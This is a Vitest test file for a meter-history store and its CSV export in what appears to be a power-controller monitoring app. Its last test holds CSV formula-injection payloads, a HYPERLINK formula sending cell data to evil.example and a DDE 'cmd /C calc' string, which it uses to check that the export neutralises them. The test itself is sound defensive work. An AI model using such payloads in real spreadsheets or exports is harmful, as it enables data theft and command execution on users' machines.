import { afterEach, describe, expect, it } from 'vitest';
import type { MeterHistory, MeterReading } from '../../../src-preload/model';
import { meterCsv, meterCsvFilename } from '../../../src-main/core/meters/meter-csv';
import { MeterSeries } from '../../../src-main/core/meters/meter-history';
import { FakeClock } from '../fake-clock';
import { addController, cleanUp, emulator, meterKey, newCore } from '../harness';
import { polls } from '../poll-steps';

afterEach(cleanUp);

const reading = (key: string, value: number | null, patch: Partial<MeterReading> = {}): MeterReading => ({
  key,
  name: key,
  quantity: 'other',
  bus: null,
  value,
  unit: '',
  ...patch,
});
const volts = (value: number | null) =>
  reading('buses.0.voltage', value, { name: 'AC voltage', quantity: 'voltage', unit: 'V' });
const amps = (value: number | null) =>
  reading('buses.0.current', value, { name: 'AC current', quantity: 'current', unit: 'A' });

describe('meter history', () => {
  it('keeps every poll, in epoch seconds, with null for missing readings', () => {
    const series = new MeterSeries();
    series.add(1_000_000, [volts(120.1), amps(0.5)]);
    series.add(1_001_000, [volts(null), amps(0.75)]);
    series.add(1_002_500, [volts(119.9)]);
    expect(series.history('buses.0.voltage')).toEqual({
      key: 'buses.0.voltage',
      unit: 'V',
      t: [1000, 1001, 1002.5],
      v: [120.1, null, 119.9],
    });
    expect(series.history('buses.0.current')!.v).toEqual([0.5, 0.75, null]);
    expect(series.history('nope')).toBeNull();
  });

  it('keeps 24 hours at poll resolution and drops older samples, in bounded memory', () => {
    const series = new MeterSeries();
    const start = 1_700_000_000_000;
    // Two days of one poll a second, six meters.
    const six = ['a', 'b', 'c', 'd', 'e', 'f'];
    for (let s = 0; s < 2 * 86_400; s++)
      series.add(
        start + s * 1000,
        six.map((k) => reading(k, s)),
      );
    const history = series.history('a')!;
    const span = history.t.at(-1)! - history.t[0]!;
    expect(span).toBeGreaterThanOrEqual(86_400 - 1);
    expect(span).toBeLessThan(86_400 + 1024);
    // Consecutive samples one second apart: nothing thinned out.
    expect(history.t.slice(-3)).toEqual(
      [2, 1, 0].map((back) => (start + (2 * 86_400 - 1 - back) * 1000) / 1000),
    );
    // Float64 time + six Float32 values = 32 bytes a sample, plus at most one chunk of slack.
    expect(series.bytes).toBeLessThanOrEqual((86_400 + 2 * 1024) * 32);
  });

  it('respects a sample cap whatever the poll rate', () => {
    const series = new MeterSeries({ maxSamples: 5000 });
    for (let i = 0; i < 20_000; i++) series.add(i, [volts(i)]);
    expect(series.size).toBeLessThanOrEqual(5000 + 1024);
    expect(series.size).toBeGreaterThanOrEqual(5000);
  });
});

describe('meter history through the Core', () => {
  it('goes on across a reconnect (a new password), instead of starting again', async () => {
    const clock = new FakeClock();
    const emu = await emulator();
    const h = newCore({ clock });
    await h.ok('settings/set', { pollIntervalMs: 500 });
    const { id } = await addController(h, emu, { name: 'Bench A' });
    const voltage = meterKey(emu, 'buses.0.voltage');
    await polls(clock, 3);
    const before = await h.ok<MeterHistory>('meters/history', { controllerId: id, key: voltage });
    expect(before.t.length).toBeGreaterThanOrEqual(3);

    // The password changes on the unit and is given again: the session reconnects.
    emu.device.setPassword('admin', 'rotated');
    await h.ok('controllers/update', {
      id,
      auth: { kind: 'digest', user: 'admin', password: 'rotated' },
    });
    await polls(clock, 2);
    const after = await h.ok<MeterHistory>('meters/history', { controllerId: id, key: voltage });
    expect(after.t.slice(0, before.t.length)).toEqual(before.t);
    expect(after.t.length).toBeGreaterThan(before.t.length);
  });
});

describe('meter CSV', () => {
  it('has one row per sample time with ISO timestamps and a column per meter with its unit', () => {
    const series = new MeterSeries();
    series.add(Date.UTC(2024, 4, 1, 10, 0, 0), [volts(120.25), amps(0)]);
    series.add(Date.UTC(2024, 4, 1, 10, 0, 3), [volts(null), amps(1.5)]);
    series.add(Date.UTC(2024, 4, 1, 10, 0, 6), [
      volts(119.5),
      amps(1.25),
      reading('x', 7, { name: 'Odd, "quoted"' }),
    ]);
    expect(meterCsv(series).split('\r\n')).toEqual([
      'time,AC voltage (V),AC current (A),"Odd, ""quoted"""',
      '2024-05-01T10:00:00.000Z,120.25,0,',
      '2024-05-01T10:00:03.000Z,,1.5,',
      '2024-05-01T10:00:06.000Z,119.5,1.25,7',
      '',
    ]);
  });

  it('names the file after the controller, safely', () => {
    expect(meterCsvFilename('Bench A / rack 3', Date.UTC(2024, 4, 1, 10, 20, 0))).toBe(
      'plugboard-bench-a-rack-3-meters-2024-05-01T10-20-00Z.csv',
    );
  });
});

describe('the meters export', () => {
  it('meters: a name the controller sent is never a formula, and negative readings stay numbers', () => {
    const series = new MeterSeries();
    const meter = (key: string, name: string, value: number): MeterReading => ({
      key,
      name,
      quantity: 'other',
      bus: null,
      value,
      unit: '',
    });
    series.add(Date.UTC(2024, 4, 1, 10, 0, 0), [
      meter('a', '=HYPERLINK("http://evil.example/?"&A2,"click")', -3.2),
      meter('b', "@SUM(1+9)*cmd|' /C calc'!A0", 5),
      meter('c', '-2+3', -0.5),
    ]);
    const [header, row] = meterCsv(series).split('\r\n');
    expect(header).toBe(
      `time,"'=HYPERLINK(""http://evil.example/?""&A2,""click"")",'@SUM(1+9)*cmd|' /C calc'!A0,'-2+3`,
    );
    expect(row).toBe('2024-05-01T10:00:00.000Z,-3.2,5,-0.5');
  });
});
